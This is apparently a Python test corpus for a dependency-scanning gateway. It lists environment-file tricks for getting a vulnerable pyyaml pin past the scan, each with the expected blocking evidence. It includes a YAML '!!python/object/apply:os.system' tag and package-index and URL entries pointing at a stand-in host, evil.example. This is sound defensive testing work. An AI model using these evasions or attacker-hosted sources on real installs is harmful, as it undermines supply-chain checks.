"""The evasion corpus: environment files that try to get `pyyaml==5.3.1` past the scan.

Each case is (files, evidence): `evidence` must appear in a blocking reason of the
decision: the advisory id when the gateway reads the file as the installer does and
finds the pin, or "file:line" when it refuses the file as unreadable or ambiguous.
Written for this project; README "What the parser guarantees" links here.
"""
FOUND = "GHSA-8q59-q68h-6hv4"  # pyyaml < 5.4, CRITICAL
PIN = "pyyaml==5.3.1"
PY_ENV = "python_env.yaml"
REQS = "requirements.txt"
CONDA = "conda.yaml"


def deep(levels: int) -> str:
    return "dependencies: " + "[" * levels + PIN + "]" * levels + "\n"


CASES = {
    # 1. Text in one file switching another off.
    "comment with -c in python_env": ({PY_ENV: "# see also -c requirements.txt\ndependencies: [flask==2.0]\n",
                                       REQS: PIN + "\n"}, FOUND),
    "comment with -c in the same file": ({REQS: "# -c requirements.txt\n" + PIN + "\n"}, FOUND),
    "constraint include of requirements.txt": ({PY_ENV: "dependencies: ['-c requirements.txt', flask==2.0]\n",
                                                REQS: PIN + "\n"}, FOUND),
    "abbreviated --constr include": ({PY_ENV: "dependencies: ['--constr requirements.txt']\n",
                                      REQS: PIN + "\n"}, FOUND),
    "-c only in the conda pip section": ({CONDA: "dependencies:\n  - pip:\n    - -c requirements.txt\n",
                                          REQS: PIN + "\n"}, FOUND),
    # 2. Duplicate keys: PyYAML keeps the last, conda refuses.
    "duplicate dependencies in python_env": ({PY_ENV: "dependencies: []\ndependencies: [pyyaml==5.3.1]\n"},
                                             f"{PY_ENV}:2"),
    "duplicate dependencies in conda.yaml": ({CONDA: "dependencies: []\ndependencies:\n  - pyyaml=5.3.1\n"},
                                             f"{CONDA}:2"),
    "duplicate pip key": ({CONDA: "dependencies:\n  - {pip: [], pip: [pyyaml==5.3.1]}\n"}, f"{CONDA}:2"),
    "two pip sections": ({CONDA: "dependencies:\n  - pip: [pyyaml==5.3.1]\n  - pip: [flask==2.0]\n"}, f"{CONDA}:3"),
    "duplicate key quoted differently": ({PY_ENV: "dependencies: []\n'dependencies': [pyyaml==5.3.1]\n"},
                                         f"{PY_ENV}:2"),
    # 3. Merge keys, anchors and aliases.
    "merge key at the root": ({CONDA: "base: &b\n  dependencies: [pyyaml==5.3.1]\n<<: *b\n"}, f"{CONDA}:3"),
    "merge key in the pip mapping": ({CONDA: "x: &p {pip: [pyyaml==5.3.1]}\ndependencies:\n  - <<: *p\n"},
                                     f"{CONDA}:3"),
    "alias to a dependency list": ({CONDA: "x: &d [pyyaml=5.3.1]\ndependencies: *d\n"}, FOUND),
    "alias to a pip list": ({CONDA: "x: &d [pyyaml==5.3.1]\ndependencies:\n  - pip: *d\n"}, FOUND),
    "alias to a string": ({PY_ENV: "dependencies: [&p pyyaml==5.3.1, *p]\n"}, FOUND),
    "alias in an unknown python_env key": ({PY_ENV: "x: &d [pyyaml==5.3.1]\ndependencies: *d\n"}, f"{PY_ENV}:1"),
    "duplicate anchor": ({CONDA: "a: &x [flask]\nb: &x [pyyaml=5.3.1]\ndependencies: *x\n"}, f"{CONDA}:2"),
    "alias before its anchor": ({CONDA: "dependencies: *x\nb: &x [pyyaml=5.3.1]\n"}, f"{CONDA}:1"),
    # 4. Unreadable files.
    "invalid YAML": ({PY_ENV: "dependencies: [unclosed\n", REQS: "flask==2.0\n"}, f"{PY_ENV}:2"),
    "a list where a mapping belongs": ({CONDA: "- pyyaml=5.3.1\n"}, f"{CONDA}:1"),
    "a scalar where a mapping belongs": ({PY_ENV: "pyyaml==5.3.1\n"}, f"{PY_ENV}:1"),
    "a mapping where a list belongs": ({PY_ENV: "dependencies: {pyyaml: 5.3.1}\n"}, f"{PY_ENV}:1"),
    "a list item that is a list": ({PY_ENV: "dependencies: [[pyyaml==5.3.1]]\n"}, f"{PY_ENV}:1"),
    "an empty YAML file": ({PY_ENV: "", REQS: "flask==2.0\n"}, f"{PY_ENV}:"),
    "unknown python_env key": ({PY_ENV: "dependencies: [flask==2.0]\ndependency: [pyyaml==5.3.1]\n"}, f"{PY_ENV}:2"),
    "tag !!str": ({CONDA: "dependencies:\n  - !!str pyyaml=5.3.1\n"}, f"{CONDA}:2"),
    "tag !!python/object": ({CONDA: "dependencies:\n  - !!python/object/apply:os.system ['true']\n"}, f"{CONDA}:2"),
    "local tag": ({PY_ENV: "dependencies: !reqs [pyyaml==5.3.1]\n"}, f"{PY_ENV}:1"),
    "nesting past the limit": ({PY_ENV: deep(30)}, f"{PY_ENV}:1"),
    "nesting past libyaml's limit": ({PY_ENV: deep(2000)}, f"{PY_ENV}:1"),
    "two YAML documents": ({PY_ENV: "dependencies: []\n---\ndependencies: [pyyaml==5.3.1]\n"}, f"{PY_ENV}:"),
    "a requirement line the parser rejects": ({REQS: "numpy==1.19.0; ((((((((\n"}, f"{REQS}:1"),
    "an invalid specifier": ({REQS: "pyyaml=5.3.1\n"}, f"{REQS}:1"),
    "an invalid version": ({REQS: "pyyaml==5.3.1.*.*\n"}, f"{REQS}:1"),
    "extras after the version": ({REQS: "pyyaml==5.3.1[extra]\n"}, f"{REQS}:1"),
    "an unknown pip option": ({REQS: "--pyyaml-please\n"}, f"{REQS}:1"),
    "an include that was not fetched": ({REQS: "-r extra-requirements.txt\n"}, f"{REQS}:1"),
    "an include by URL": ({REQS: "-r https://example.com/reqs.txt\n"}, f"{REQS}:1"),
    "an include outside the model": ({REQS: "-r ../../requirements.txt\n"}, f"{REQS}:1"),
    "an include of itself": ({REQS: "-r requirements.txt\n"}, f"{REQS}:1"),
    "nested include that was not fetched": ({PY_ENV: "dependencies: [-r requirements.txt]\n",
                                             REQS: "-r deeper.txt\n"}, f"{REQS}:1"),
    "environment variable": ({REQS: "${PKG}==5.3.1\n"}, f"{REQS}:1"),
    "environment variable in an option": ({REQS: "-r ${FILE}\n"}, f"{REQS}:1"),
    "words pip ignores after an option": ({REQS: "-i https://pypi.org/simple pyyaml==5.3.1\n"}, f"{REQS}:1"),
    "a file option on a requirement line": ({REQS: "flask==2.0 -r extra.txt\n"}, f"{REQS}:1"),
    "two includes on one line": ({REQS: "-r a.txt -r b.txt\n"}, f"{REQS}:1"),
    "unbalanced quotes in options": ({REQS: "flask==2.0 --hash 'sha256:aa\n"}, f"{REQS}:1"),
    "coding line for UTF-7": ({REQS: "# -*- coding: utf-7 -*-\n+AHA-yyaml==5.3.1\n"}, f"{REQS}:1"),
    "unknown coding": ({REQS: "# coding: klingon\n" + PIN + "\n"}, f"{REQS}:1"),
    "coding line in a pip list": ({CONDA: "dependencies:\n  - pip:\n    - '# coding: utf-7'\n"
                                          "    - +AHA-yyaml==5.3.1\n"}, f"{CONDA}:"),
    "no environment files": ({"MLmodel": "flavors: {}\n"}, "no environment files"),
    # Encodings, line ends and whitespace.
    "UTF-8 BOM": ({REQS: "\ufeff" + PIN + "\n"}, FOUND),
    "BOM in YAML": ({PY_ENV: "\ufeffdependencies: [pyyaml==5.3.1]\n"}, FOUND),
    "CRLF": ({REQS: "flask==2.0\r\n" + PIN + "\r\n"}, FOUND),
    "CR only": ({REQS: "flask==2.0\r" + PIN + "\r"}, FOUND),
    "Unicode line separator": ({REQS: "flask==2.0\u2028" + PIN + "\n"}, FOUND),
    "form feed": ({REQS: "flask==2.0\x0c" + PIN + "\n"}, FOUND),
    "tabs around the operator": ({REQS: "pyyaml\t==\t5.3.1\n"}, FOUND),
    "tab before an option": ({REQS: "pyyaml==5.3.1\t--hash=sha256:aaaa\n"}, f"{REQS}:1"),
    "tab in YAML indentation": ({CONDA: "dependencies:\n\t- pyyaml=5.3.1\n"}, f"{CONDA}:"),
    "Cyrillic look-alike name": ({REQS: "руyaml==5.3.1\n"}, f"{REQS}:1"),
    "fullwidth letters": ({REQS: "ｐｙｙａｍｌ==5.3.1\n"}, f"{REQS}:1"),
    "fullwidth digits": ({REQS: "pyyaml==５.３.１\n"}, f"{REQS}:1"),
    "zero-width space": ({REQS: "py\u200byaml==5.3.1\n"}, f"{REQS}:1"),
    "non-breaking space": ({REQS: "pyyaml\u00a0==5.3.1\n"}, f"{REQS}:1"),
    # Continuations and comments, as pip joins them.
    "--hash continuation": ({REQS: PIN + " \\\n    --hash=sha256:aaaa \\\n    --hash=sha256:bbbb\n"}, FOUND),
    "continuation inside the name": ({REQS: "pyy\\\naml==5.3.1\n"}, FOUND),
    "continuation inside the version": ({REQS: "pyyaml==5.3.\\\n1\n"}, FOUND),
    "comment line ending in a backslash": ({REQS: "# note \\\n" + PIN + "\n"}, FOUND),
    "continuation into a comment": ({REQS: "flask==2.0 \\\n# pyyaml is fine\n" + PIN + "\n"}, FOUND),
    "inline hash without space is not a comment": ({REQS: "pyyaml==5.3.1#egg\n"}, f"{REQS}:1"),
    "continuation at the end of the file": ({REQS: "pyyaml==5.3.1 \\"}, FOUND),
    "pip list item with a newline": ({CONDA: 'dependencies:\n  - pip:\n    - "flask==2.0\\npyyaml==5.3.1"\n'}, FOUND),
    "pip list items joined by a backslash": ({CONDA: 'dependencies:\n  - pip:\n    - "pyy\\\\"\n    - aml==5.3.1\n'},
                                             FOUND),
    "python_env item with a newline": ({PY_ENV: 'dependencies: ["flask==2.0\\npyyaml==5.3.1"]\n'}, FOUND),
    "block scalar item": ({PY_ENV: "dependencies:\n  - |\n    flask==2.0\n    pyyaml==5.3.1\n"}, FOUND),
    # Requirement forms that still install pyyaml 5.3.1.
    "short include": ({PY_ENV: "dependencies: [-rrequirements.txt]\n", REQS: PIN + "\n"}, FOUND),
    "include with ./": ({PY_ENV: "dependencies: [-r ./requirements.txt]\n", REQS: PIN + "\n"}, FOUND),
    "-r inside a constraint file installs": ({REQS: "-c constraints.txt\n", "constraints.txt": "-r more.txt\n",
                                              "more.txt": PIN + "\n"}, FOUND),
    "pin only in a constraint file": ({REQS: "-c constraints.txt\nflask\n", "constraints.txt": PIN + "\n"}, FOUND),
    "build dependency": ({PY_ENV: "build_dependencies: [pyyaml==5.3.1]\ndependencies: [flask==2.0]\n"}, FOUND),
    "marker that is false here": ({REQS: 'pyyaml==5.3.1 ; python_version < "3"\n'}, FOUND),
    "extras": ({REQS: "PyYAML[extra]==5.3.1\n"}, FOUND),
    "parenthesised specifier": ({REQS: "PyYAML (==5.3.1)\n"}, FOUND),
    "arbitrary equality": ({REQS: "pyyaml===5.3.1\n"}, FOUND),
    "local version": ({REQS: "pyyaml==5.3.1+corp.1\n"}, FOUND),
    "epoch zero": ({REQS: "pyyaml==0!5.3.1\n"}, FOUND),
    "leading zeros": ({REQS: "pyyaml==05.03.01\n"}, FOUND),
    "conda pin": ({CONDA: "dependencies:\n  - pyyaml=5.3.1\n"}, FOUND),
    "conda channel pin": ({CONDA: "dependencies:\n  - conda-forge::pyyaml==5.3.1\n"}, FOUND),
    "conda pin with build string": ({CONDA: "dependencies:\n  - pyyaml 5.3.1 py38h7f8727e_1\n"}, FOUND),
    "conda brackets": ({CONDA: "dependencies:\n  - pyyaml[version='5.3.1']\n"}, f"{CONDA}:2"),
    "conda alternatives": ({CONDA: "dependencies:\n  - pyyaml=5.3.1|6.0.1\n"}, f"{CONDA}:2"),
    # YAML 1.1 oddities.
    "yes as a dependency": ({CONDA: "dependencies:\n  - yes\n  - pyyaml=5.3.1\n"}, f"{CONDA}:2"),
    "octal-looking dependency": ({CONDA: "dependencies:\n  - 010\n"}, f"{CONDA}:2"),
    "1e3 is a string to PyYAML only": ({CONDA: "dependencies:\n  - 1e3\n"}, f"{CONDA}:2"),
    "python: 3.10 is a float": ({PY_ENV: "python: 3.10\ndependencies: [flask==2.0]\n"}, f"{PY_ENV}:1"),
    "on: as a key": ({CONDA: "on: [x]\ndependencies: [flask]\n"}, f"{CONDA}:1"),
    "null dependency list in conda.yaml": ({CONDA: "dependencies:\n"}, f"{CONDA}:"),
}

# Not hidden vulnerabilities but other ways around "what was scanned ships": blocked by the
# default policies (direct_references: block), allowed only where an admin allows them.
SOURCES = {
    "extra index": {REQS: "--extra-index-url https://evil.example/simple\npyyaml==6.0.2\n"},
    "index replaced": {REQS: "-i https://evil.example/simple\npyyaml==6.0.2\n"},
    "find links": {REQS: "--find-links=/tmp/wheels\npyyaml==6.0.2\n"},
    "trusted host": {CONDA: "dependencies:\n  - pip:\n    - --trusted-host evil.example\n"},
    "URL requirement": {REQS: "pyyaml @ https://evil.example/PyYAML-6.0.2.tar.gz\n"},
    "VCS requirement": {PY_ENV: "dependencies: ['git+https://evil.example/pyyaml.git#egg=pyyaml']\n"},
    "local wheel": {REQS: "./wheels/PyYAML-6.0.2-cp311-cp311-linux_x86_64.whl\n"},
    "editable path": {REQS: "-e ./src\n"},
}
